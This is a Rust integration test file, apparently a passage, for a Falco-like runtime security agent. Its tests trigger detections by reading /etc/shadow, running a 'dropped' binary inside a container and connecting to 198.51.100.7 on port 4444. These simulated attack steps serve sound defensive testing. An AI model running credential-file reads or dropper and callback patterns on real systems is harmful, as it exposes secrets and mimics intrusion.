            "mount -t overlay overlay -o lowerdir=/usr,upperdir={u},workdir={w} {m} \
             && mkdir -p {m}/tmp && cp /usr/bin/sleep {m}/tmp/tl-dropped \
             && chroot {m} /bin/sleep 1 && chroot {m} /tmp/tl-dropped 1",
            u = t.join("u").display(),
            w = t.join("w").display(),
            m = m.display()
        );
        sh(&ctr.enter(&format!("unshare -m sh -c '{script}'")));
    });
    let drops = find(
        &alerts,
        "Drop and execute new binary in container",
        "container.id",
        ctr.short_id(),
    );
    let names: Vec<String> = drops.iter().map(|a| text(a, "proc.exepath")).collect();
    assert_eq!(names, ["/tmp/tl-dropped"], "{alerts:#?}");
}

#[test]
fn contract_watch_learns_and_detects_behaviour() {
    if !enabled() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::copy("/bin/true", d.join("probe")).unwrap();
    std::fs::copy("/bin/true", d.join("dropper")).unwrap();
    let contract = d.join("c.yaml");
    let connect = |host: &str, port: u16| {
        let addr = std::net::SocketAddr::new(host.parse().unwrap(), port);
        let _ = std::net::TcpStream::connect_timeout(&addr, Duration::from_millis(300));
    };
    let glob = format!("{}/**", d.display());
    let brief_port = std::sync::Mutex::new(0u16);
    let watched = |args: &[&str], actions: &dyn Fn()| tripline_while(args, actions);
    let out = watched(
        &[
            "contract",
            "learn",
            "--include",
            &glob,
            "--watch",
            "6",
            "-o",
            contract.to_str().unwrap(),
        ],
        &|| {
            sh(&format!("{}/probe", d.display()));
            connect("192.0.2.1", 8443);
        },
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = std::fs::read_to_string(&contract).unwrap();
    assert!(
        text.contains(&format!(
            "- path: {}/probe\n    state: allowed",
            d.display()
        )),
        "{text}"
    );
    assert!(
        text.contains("- destination: 192.0.2.1\n    port: 8443\n    state: allowed"),
        "{text}"
    );

    let out = watched(
        &[
            "drift",
            "--contract",
            contract.to_str().unwrap(),
            "--watch",
            "6",
            "--format",
            "json",
        ],
        &|| {
            sh(&format!("{}/probe", d.display()));
            sh(&format!("{}/dropper", d.display()));
            connect("192.0.2.1", 8443);
            connect("198.51.100.7", 4444);
            // A listener that is gone before the snapshot: only the sensor sees it.
            let l = std::net::TcpListener::bind("0.0.0.0:0").unwrap();
            *brief_port.lock().unwrap() = l.local_addr().unwrap().port();
            std::thread::sleep(Duration::from_millis(300));
        },
    );
    assert_eq!(
        out.status.code(),
        Some(3),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let findings = report["findings"].as_array().unwrap();
    let has = |section: &str, item: &str| {
        findings
            .iter()
            .find(|f| f["section"] == section && f["item"] == item)
            .cloned()
    };
    let dropper = has("executables", &format!("{}/dropper", d.display())).expect("dropper");
    // Programs run from /tmp are high; elsewhere (a TMPDIR outside /tmp) medium.
    let want = if d.starts_with("/tmp") {
        "high"
    } else {
        "medium"
    };
    assert_eq!(dropper["severity"], want);
    assert!(
        has("egress", "198.51.100.7:4444").is_some(),
        "{findings:#?}"
    );
    assert!(has("executables", &format!("{}/probe", d.display())).is_none());
    assert!(has("egress", "192.0.2.1:8443").is_none());
    let port = *brief_port.lock().unwrap();
    let brief = findings
        .iter()
        .find(|f| {
            f["section"] == "listeners"
                && f["item"].as_str().is_some_and(|i| {
                    let want = format!("tcp 0.0.0.0:{port}");
                    i == want || i.starts_with(&format!("{want} ("))
                })
        })
        .unwrap_or_else(|| panic!("no listener on {port}: {findings:#?}"));
    assert_eq!(brief["severity"], "high");
}

/// `tripline run` as a user starts it: the live alert reaches the store and the API while the
/// agent runs, and the UI's token is printed once.
#[test]
fn live_alerts_reach_the_store_and_the_api() {
    use std::io::{BufRead, BufReader, Read, Write};
    if !enabled() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let store = dir.path().join("s.db").display().to_string();
    let mut agent = Command::new(env!("CARGO_BIN_EXE_tripline"))
        .args([
            "run",
            "--store",
            &store,
            "--listen",
            "127.0.0.1:0",
            "--duration",
            "60",
        ])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut lines = BufReader::new(agent.stderr.take().unwrap()).lines();
    let (mut addr, mut token, mut attached) = (String::new(), String::new(), false);
    while addr.is_empty() || token.is_empty() || !attached {
        let line = lines.next().expect("the agent starts").unwrap();
        if let Some(a) = line.strip_prefix("tripline: web UI and API at http://") {
            addr = a.trim_end_matches('/').to_string();
        }
        if let Some(at) = line.find("tl_") {
            token = line[at..].trim().to_string();
        }
        attached |= line.contains("sensor attached");
    }
    std::thread::spawn(move || for _ in lines {});
    let get = |path: &str| -> String {
        let mut s = std::net::TcpStream::connect(&addr).unwrap();
        write!(
            s,
            "GET {path} HTTP/1.1\r\nHost: {addr}\r\nAuthorization: Bearer {token}\r\nConnection: close\r\n\r\n"
        )
        .unwrap();
        let mut out = String::new();
        s.read_to_string(&mut out).unwrap();
        out
    };
    sh("cat /etc/shadow > /dev/null");
    let start = std::time::Instant::now();
    let found = loop {
        let resp = get("/api/v1/findings?q=/etc/shadow&limit=5");
        if resp.contains("Read sensitive file") {
            break resp;
        }
        assert!(
            start.elapsed() < std::time::Duration::from_secs(20),
            "no finding for /etc/shadow in the API: {resp}"
        );
        std::thread::sleep(std::time::Duration::from_millis(20));
    };
    eprintln!(
        "alert visible in the API {:?} after the read",
        start.elapsed()
    );
    assert!(found.starts_with("HTTP/1.1 200"), "{found}");
    assert!(found.contains("\"proc.name\":\"cat\""), "{found}");
    // SIGTERM: a clean stop with the store summary.
    unsafe { libc::kill(agent.id() as i32, libc::SIGTERM) };
    assert!(agent.wait().unwrap().success());
    let mut s = tripline_store::Store::open(&store).unwrap();
    assert!(s
        .query(&tripline_store::Query {
            text: "/etc/shadow".into(),
            ..Default::default()
        })
        .unwrap()
        .iter()
        .any(|f| f.rule.starts_with("Read sensitive file")));
}

/// Workload baselines from the live sensor: `run --anomaly-learn` learns what runs and where
/// it connects, `contract learn --baseline` turns that into allow-lists, and `run --anomaly`
/// reports a program and a destination the baseline never saw, with its reasons.
#[test]
fn workload_baselines_learn_then_flag_the_new() {
    if !enabled() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    std::fs::copy("/bin/true", d.join("probe")).unwrap();
    std::fs::copy("/bin/true", d.join("dropper")).unwrap();
    let baseline = d.join("workloads.db");
    let connect = |host: &str, port: u16| {
        let addr = std::net::SocketAddr::new(host.parse().unwrap(), port);
        let _ = std::net::TcpStream::connect_timeout(&addr, Duration::from_millis(300));
    };
    let bin = env!("CARGO_BIN_EXE_tripline");
    let run = |extra: &[&str], actions: &dyn Fn()| {
        let mut args = vec![
            "run",
            "--no-store",
            "--no-ui",
            "--duration",
            "7",
            "--format",
            "json",
        ];
        args.extend_from_slice(extra);
        let out = tripline_while(&args, actions);
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        out
    };
    std::fs::create_dir(d.join("data")).unwrap();
    let out = run(&["--anomaly-learn", baseline.to_str().unwrap()], &|| {
        for i in 0..3 {
            sh(&format!("{}/probe", d.display()));
            connect("192.0.2.1", 8443);
            std::fs::write(d.join("data").join(format!("f{i}")), b"x").unwrap();
        }
    });
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("workload events of"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    // Where it wrote is learned, by directory.
    let export = Command::new(bin)
        .args(["anomaly", "export", "--baseline"])
        .arg(&baseline)
        .output()
        .unwrap();
    let yaml = String::from_utf8_lossy(&export.stdout);
    if d.components().count() <= 3 {
        assert!(yaml.contains(&format!("{}/data", d.display())), "{yaml}");
    }
    assert!(yaml.contains("write_dir:"), "{yaml}");

    // The reviewed baseline becomes the contract's allow-lists.
    let contract = d.join("c.yaml");
    let out = Command::new(bin)
        .args([
            "contract",
            "learn",
            "--include",
            &format!("{}/none/**", d.display()),
            "--baseline",
        ])
        .arg(&baseline)
        .arg("-o")
        .arg(&contract)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = std::fs::read_to_string(&contract).unwrap();
    assert!(
        text.contains(&format!(
            "- path: {}/probe\n    state: allowed",
            d.display()
        )),
        "{text}"
    );
    assert!(
        text.contains("- destination: 192.0.2.0/24\n    port: 8443\n    state: allowed"),
        "{text}"
    );

    // The connecting test process is a young entity (a few egress and write events): a
    // destination neither it nor any peer ever had scores about 0.58, so report from 0.5.
    let out = run(
        &[
            "--anomaly",
            baseline.to_str().unwrap(),
            "--anomaly-threshold",
            "0.5",
        ],
        &|| {
            sh(&format!("{}/probe", d.display()));
            sh(&format!("{}/dropper", d.display()));
            connect("198.51.100.7", 4444);
        },
    );
    let alerts: Vec<serde_json::Value> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .filter(|a: &serde_json::Value| a["rule"] == "Anomalous behaviour")
        .collect();
    let about = |needle: &str| {
        alerts
            .iter()
            .find(|a| {
                a["output_fields"]["anomaly.event"]
                    .as_str()
                    .is_some_and(|e| e.contains(needle))
            })
            .cloned()
    };
    let dropper =
        about(&format!("exec {}/dropper", d.display())).unwrap_or_else(|| panic!("{alerts:#?}"));
    let reasons = dropper["output_fields"]["anomaly.reasons"].to_string();
    assert!(
        reasons.contains(&format!("executable {}/dropper: seen 0 times", d.display())),
        "{reasons}"
    );
    assert!(about("198.51.100.7:4444").is_some(), "{alerts:#?}");
    assert!(
        about(&format!("exec {}/probe", d.display())).is_none(),
        "{alerts:#?}"
    );
}

/// sendto is reported only when it names a peer on a socket that is not TCP (DNS, UDP
/// exfiltration): a connected socket's sends (every TCP server's traffic) cost the kernel one
/// load and reach no rule.
#[test]
fn sendto_reports_only_new_datagram_peers() {
    if !enabled() {
        return;
    }
    let (rules, report) = load(
        &[RulesFile {
            name: "sendto.yaml".into(),
            content: "- rule: send\n  desc: test\n  condition: evt.type = sendto and proc.name = python3\n  output: send %fd.name %fd.l4proto\n  priority: DEBUG\n".into(),
        }],
        &schemas(),
    );
    assert!(report.is_ok(), "{:?}", report.errors);
    let script = r#"
import socket
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.sendto(b"x", ("127.0.0.1", 5353))
c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
c.connect(("127.0.0.1", 5354))
c.send(b"y")
l = socket.socket()
l.bind(("127.0.0.1", 0))
l.listen()
t = socket.create_connection(l.getsockname())
t.send(b"z")
"#;
    for hooks in [Hooks::SyscallTracepoints, Hooks::Raw] {
        let cfg = RunConfig {
            hooks,
            ..RunConfig::default()
        };
        let (alerts, _) = with_agent_cfg(rules.clone(), RuleMatching::First, cfg, || {
            let status = Command::new("python3")
                .arg("-c")
                .arg(script)
                .status()
                .unwrap();
            assert!(status.success(), "python3: {status}");
        });
        let names: Vec<String> = alerts.iter().map(|f| text(f, "fd.name")).collect();
        assert_eq!(names.len(), 1, "{hooks}: {names:?}");
        assert!(names[0].ends_with("->127.0.0.1:5353"), "{hooks}: {names:?}");
        assert_eq!(text(&alerts[0], "fd.l4proto"), "udp");
    }
}

/// An alert storm against a PostgreSQL store (issue 19): a rule that fires on every open of a
/// marker, driven at 20k opens/s for 10 s. The ring-buffer drain never waits on the store, so
/// the kernel drops nothing; every alert is either stored (new, folded, rate limited) or
/// counted as held back by the full findings queue; memory stays bounded.
#[test]
fn alert_storm_into_postgres_loses_nothing_uncounted() {
    if !enabled() {
        return;
    }
    let Ok(base) = std::env::var("TRIPLINE_TEST_POSTGRES") else {
        if std::env::var_os("TRIPLINE_REQUIRE_POSTGRES_TESTS").is_some() {
            panic!("TRIPLINE_REQUIRE_POSTGRES_TESTS is set but TRIPLINE_TEST_POSTGRES is not");
        }
        eprintln!("skipping the alert storm: TRIPLINE_TEST_POSTGRES names no server");
        return;
    };
    // A schema of its own, so other tests on the same database do not count.
    let schema = format!("storm_{}", std::process::id());
    {
        let mut s = tripline_store::Store::open(&base).unwrap();
        s.db()
            .exec(&format!("DROP SCHEMA IF EXISTS {schema} CASCADE"), &[])
            .unwrap();
        s.db()
            .exec(&format!("CREATE SCHEMA {schema}"), &[])
            .unwrap();
    }
    let sep = if base.contains('?') { '&' } else { '?' };
    let url = format!("{base}{sep}options=-c%20search_path%3D{schema}");

    let dir = tempfile::tempdir().unwrap();
    let marker = dir.path().join("storm-marker");
    std::fs::write(&marker, "x").unwrap();
    let rules = dir.path().join("storm.yaml");
    std::fs::write(
        &rules,
        format!(
            "- rule: storm marker\n  desc: every open of the marker\n  condition: evt.type in (open, openat, openat2) and evt.dir=< and fd.name={}\n  output: 'storm %proc.pid %fd.name'\n  priority: WARNING\n",
            marker.display()
        ),
    )
    .unwrap();
    let mut agent = Command::new(env!("CARGO_BIN_EXE_tripline"))
        .args(["run", "--no-default-rules", "-r", rules.to_str().unwrap()])
        .args(["--store", &url, "--rate-limit", "0", "--dedup-window", "0"])
        .args(["--no-ui", "--format", "json", "--duration", "60"])
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let pid = agent.id();
    let stderr = agent.stderr.take().unwrap();
    let (tx, rx) = mpsc::channel();
    let reader = std::thread::spawn(move || {
        use std::io::BufRead;
        let mut all = String::new();
        for line in std::io::BufReader::new(stderr)
            .lines()
            .map_while(Result::ok)
        {
            if line.contains("sensor attached") {
                let _ = tx.send(());
            }
            all.push_str(&line);
            all.push('\n');
        }
        all
    });
    rx.recv_timeout(Duration::from_secs(60))
        .expect("sensor attached");

    // The agent's RSS, sampled every 100 ms while the storm runs.
    let sampling = Arc::new(AtomicBool::new(true));
    let sampler = {
        let sampling = sampling.clone();
        std::thread::spawn(move || {
            let mut samples = Vec::new();
            while sampling.load(Ordering::Relaxed) {
                if let Ok(s) = std::fs::read_to_string(format!("/proc/{pid}/status")) {
                    if let Some(kib) = s
                        .lines()
                        .find_map(|l| l.strip_prefix("VmRSS:"))
                        .and_then(|v| v.trim().trim_end_matches(" kB").parse::<u64>().ok())
                    {
                        samples.push(kib);
                    }
                }
                std::thread::sleep(Duration::from_millis(100));
            }
            samples
        })
    };
    let driver = format!(
        "import os, time\np = {:?}\nstart = time.time(); n = 0\nwhile True:\n    t = time.time() - start\n    if t >= 10: break\n    while n < int(t * 20000):\n        os.close(os.open(p, os.O_RDONLY)); n += 1\nprint(n)\n",
        marker.display().to_string()
    );
    let out = Command::new("python3")
        .arg("-c")
        .arg(&driver)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let opened: u64 = String::from_utf8_lossy(&out.stdout).trim().parse().unwrap();
    std::thread::sleep(Duration::from_secs(1));
    // SAFETY: signals our own child.
    unsafe { libc::kill(pid as i32, libc::SIGINT) };
    let status = agent.wait().unwrap();
    sampling.store(false, Ordering::Relaxed);
    let samples = sampler.join().unwrap();
    let peak_kib = samples.iter().copied().max().unwrap_or(0);
    // Bounded: once the findings queue is full, more alerts are counted, not kept. The second
    // half of the storm must not need more memory than the first half reached.
    let half = samples.len() / 2;
    let first_half = samples[..half].iter().copied().max().unwrap_or(0);
    let second_half = samples[half..].iter().copied().max().unwrap_or(0);
    let log = reader.join().unwrap();
    assert!(status.success(), "{status:?}\n{log}");

    let number_after = |line: &str, key: &str| -> u64 {
        let at = line
            .find(key)
            .unwrap_or_else(|| panic!("no '{key}' in: {line}"));
        line[at + key.len()..]
            .trim_start()
            .split(|c: char| !c.is_ascii_digit())
            .next()
            .unwrap()
            .parse()
            .unwrap()
    };
    let events = log.lines().find(|l| l.starts_with("Events:")).unwrap();
    assert_eq!(
        number_after(events, "dropped:"),
        0,
        "kernel drops: {events}"
    );
    let fired = log
        .lines()
        .find_map(|l| l.trim().strip_prefix("storm marker: "))
        .map(|n| n.parse::<u64>().unwrap())
        .unwrap_or(0);
    assert!(fired >= opened, "{fired} alerts for {opened} opens\n{log}");
    assert!(
        opened >= 150_000,
        "the driver managed only {opened} opens in 10 s"
    );
    // "Store: N new findings, N folded into earlier ones, N held back by rate limits, N held
    // back by a full findings queue (URL)"
    let store = log.lines().find(|l| l.starts_with("Store:")).unwrap();
    let counts: Vec<u64> = store
        .split(|c: char| !c.is_ascii_digit())
        .filter(|s| !s.is_empty())
        .take(4)
        .map(|n| n.parse().unwrap())
        .collect();
    let [new, folded, rate_limited, queue_full] = counts[..] else {
        panic!("{store}");
    };
    assert_eq!(
        new + folded + rate_limited + queue_full,
        fired,
        "stored + held back = fired: {store}"
    );
    // The database agrees: the new rows, and the held-back count beside the rate-limited.
    let mut s = tripline_store::Store::open(&url).unwrap();
    let (rows, _) = s.count(&tripline_store::Query::default()).unwrap();
    assert_eq!(rows as u64, new, "{store}");
    let suppressed: u64 = s
        .suppressed()
        .unwrap()
        .iter()
        .filter(|x| x.rule == "storm marker")
        .map(|x| x.count as u64)
        .sum();
    assert_eq!(suppressed, rate_limited + queue_full, "{store}");
    assert!(
        second_half <= first_half + 32 * 1024,
        "RSS grew from {first_half} KiB to {second_half} KiB"
    );
    assert!(peak_kib < 384 * 1024, "agent RSS peaked at {peak_kib} KiB");
    eprintln!(
        "storm: {opened} opens, {fired} alerts, {new} stored, {queue_full} held back, RSS {} MiB then {} MiB",
        first_half / 1024,
        second_half / 1024
    );
    s.db()
        .exec(&format!("DROP SCHEMA {schema} CASCADE"), &[])
        .unwrap();
}

/// Falco parity on captures (issue 22): `fd.net`, `fd.cnet` and `fd.snet` with `in` and CIDR
/// lists match connect events read back from a capture the live sensor wrote.
#[test]
fn network_fields_match_cidr_lists_on_a_written_capture() {
    if !enabled() {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("net.scap");
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let cfg = RunConfig {
        all_syscalls: true,
        capture: Some(file.clone()),
        ..RunConfig::default()
    };
    // Another process connects: the agent does not report its own (the test's) syscalls.
    let (_, stats) = with_agent_cfg(rules(&[]), RuleMatching::First, cfg, || {
        sh(&format!(
            "python3 -c \"import socket\nfor _ in range(3): socket.create_connection(('127.0.0.1', {port})).close()\""
        ));
    });
    drop(listener);
    assert!(stats.capture_error.is_none(), "{:?}", stats.capture_error);
    let count = |condition: &str| -> u64 {
        let text = format!(
            "- rule: r\n  desc: d\n  condition: evt.type=connect and evt.dir=< and fd.sport={port} and {condition}\n  output: '%fd.name'\n  priority: WARNING\n"
        );
        let (rules, report) = load(
            &[RulesFile {
                name: "net.yaml".into(),
                content: text,
            }],
            &schemas(),
        );
        assert!(report.is_ok(), "{condition}: {:?}", report.errors);
        let mut pipeline = tripline_pipeline::Pipeline::falco(rules, RuleMatching::First, "t");
        tripline::replay::run_capture(
            &mut pipeline,
            &[file.display().to_string()],
            &tripline::replay::CaptureConfig { all_events: true },
            &mut |_| {},
            &mut || {},
        )
        .alerts()
    };
    assert_eq!(count("fd.net in (127.0.0.0/8, 10.0.0.0/8)"), 3);
    assert_eq!(count("fd.net = 127.0.0.0/8"), 3);
    assert_eq!(count("fd.snet in (127.0.0.0/8)"), 3);
    assert_eq!(count("fd.cnet in (127.0.0.1/32)"), 3);
    assert_eq!(count("fd.net in (192.168.0.0/16, 172.16.0.0/12)"), 0);
    assert_eq!(count("not fd.snet in (10.0.0.0/8)"), 3);
}
